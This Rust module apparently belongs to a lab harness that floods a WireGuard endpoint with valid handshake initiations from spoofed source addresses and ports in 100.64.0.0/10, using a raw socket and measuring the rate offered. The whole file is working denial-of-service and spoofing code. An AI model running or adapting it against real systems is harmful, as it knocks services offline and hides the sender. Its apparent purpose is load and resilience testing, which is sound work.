//! A flood of handshake initiations from addresses that are not the sender's own.
//!
//! Owns the raw socket and its pace. Every initiation is made for the victim's key, so that it
//! passes the cheap check (MAC1) and costs what an attacker can make it cost. Promises to report
//! the rate that was really offered. Runs in a namespace of the lab only: see `wan.rs` for where
//! the spoofed addresses end.

use std::net::Ipv4Addr;
use std::os::fd::{AsRawFd as _, OwnedFd};
use std::time::{Duration, Instant};

use anyhow::{Context, Result};
use boringtun::noise::{Tunn, TunnResult};
use boringtun::x25519::PublicKey;
use nix::sys::socket::{
    AddressFamily, MsgFlags, SockFlag, SockProtocol, SockType, SockaddrIn, sendto, socket,
};

use super::key::TunnelKey;
use super::puppet::INITIATION;

const IPV4: usize = 20;
const UDP: usize = 8;
/// Different initiations; made before the clock starts, as each costs two curve operations.
const DIFFERENT: u16 = 512;
const TICK: Duration = Duration::from_millis(2);

/// What to send, and where.
#[derive(Debug, Clone, Copy)]
pub struct HandshakeFlood {
    /// The victim's address.
    pub target: Ipv4Addr,
    /// The victim's port.
    pub port: u16,
    /// The victim's public key.
    pub key: [u8; 32],
    /// Initiations per second.
    pub rate: u32,
    /// How long.
    pub duration: Duration,
}

/// What was sent.
#[derive(Debug, Clone, Copy)]
pub struct Offered {
    /// Initiations sent.
    pub sent: u64,
    /// In this time.
    pub took: Duration,
}

impl Offered {
    /// Initiations per second, as measured.
    #[must_use]
    pub fn rate(&self) -> f64 {
        self.sent as f64 / self.took.as_secs_f64()
    }
}

/// A flood whose initiations are made.
#[derive(Debug)]
pub struct Prepared {
    flood: HandshakeFlood,
    raw: OwnedFd,
    packets: Vec<Vec<u8>>,
}

impl Prepared {
    /// Sends, each initiation from another address and port out of 100.64.0.0/10.
    ///
    /// # Errors
    /// None at present: what the system refuses to send is not counted as offered.
    pub fn run(self) -> Result<Offered> {
        let Self { flood, raw, mut packets } = self;
        let mut random = 0x9E37_79B9_7F4A_7C15_u64;
        let (start, mut sent) = (Instant::now(), 0_u64);
        while start.elapsed() < flood.duration {
            let due = (start.elapsed().as_secs_f64() * f64::from(flood.rate)) as u64;
            while sent < due {
                let at = (sent % packets.len() as u64) as usize;
                random = next(random);
                disguise(&mut packets[at], random);
                sent += u64::from(flood.send(&raw, &packets[at]));
            }
            std::thread::sleep(TICK);
        }
        Ok(Offered { sent, took: start.elapsed() })
    }
}

impl HandshakeFlood {
    /// Makes the initiations, which takes longer than sending them.
    ///
    /// # Errors
    /// Without the right to send raw packets.
    pub fn prepare(self) -> Result<Prepared> {
        let raw = socket(AddressFamily::Inet, SockType::Raw, SockFlag::empty(), SockProtocol::Raw)
            .context("cannot open a raw socket: this needs CAP_NET_RAW")?;
        let packets = (0..DIFFERENT).map(|number| self.packet(number)).collect::<Result<_>>()?;
        Ok(Prepared { flood: self, raw, packets })
    }

    fn send(&self, raw: &OwnedFd, packet: &[u8]) -> bool {
        let [a, b, c, d] = self.target.octets();
        let target = SockaddrIn::new(a, b, c, d, 0);
        sendto(raw.as_raw_fd(), packet, &target, MsgFlags::empty()).is_ok()
    }

    fn packet(&self, number: u16) -> Result<Vec<u8>> {
        let stranger = TunnelKey::of(40_000 + number).secret();
        let mut tunn =
            Tunn::new(stranger, PublicKey::from(self.key), None, None, number.into(), None);
        let mut packet = vec![0; IPV4 + UDP];
        packet[0] = 0x45;
        packet[8] = 64;
        packet[9] = 17;
        packet[16..20].copy_from_slice(&self.target.octets());
        packet[22..24].copy_from_slice(&self.port.to_be_bytes());
        packet[24..26].copy_from_slice(&((UDP + INITIATION) as u16).to_be_bytes());
        let mut buffer = [0; INITIATION];
        match tunn.format_handshake_initiation(&mut buffer, true) {
            TunnResult::WriteToNetwork(message) => packet.extend_from_slice(message),
            _ => anyhow::bail!("no initiation was made"),
        }
        Ok(packet)
    }
}

/// Gives a packet another source: 22 bits of address in 100.64.0.0/10, 15 bits of port. The kernel
/// writes length and checksum of the IP header; UDP over IPv4 may go without one (RFC 768).
fn disguise(packet: &mut [u8], random: u64) {
    let address = 0x6440_0000_u32 | (random as u32 >> 10);
    packet[12..16].copy_from_slice(&address.to_be_bytes());
    let port = 0x8000_u16 | (random >> 48) as u16;
    packet[20..22].copy_from_slice(&port.to_be_bytes());
}

/// xorshift64 (Marsaglia 2003): the order of sources needs no secrecy.
fn next(mut state: u64) -> u64 {
    state ^= state << 13;
    state ^= state >> 7;
    state ^= state << 17;
    state
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_source_lies_in_the_network_that_leads_nowhere() {
        let mut random = 1;
        let mut sources = std::collections::HashSet::new();
        for _ in 0..10_000 {
            random = next(random);
            let mut packet = [0; IPV4 + UDP];
            disguise(&mut packet, random);
            assert_eq!((packet[12], packet[13] & 0xc0), (100, 64));
            sources.insert(packet[12..16].to_vec());
        }
        assert!(sources.len() > 9_000, "{} different sources", sources.len());
    }
}
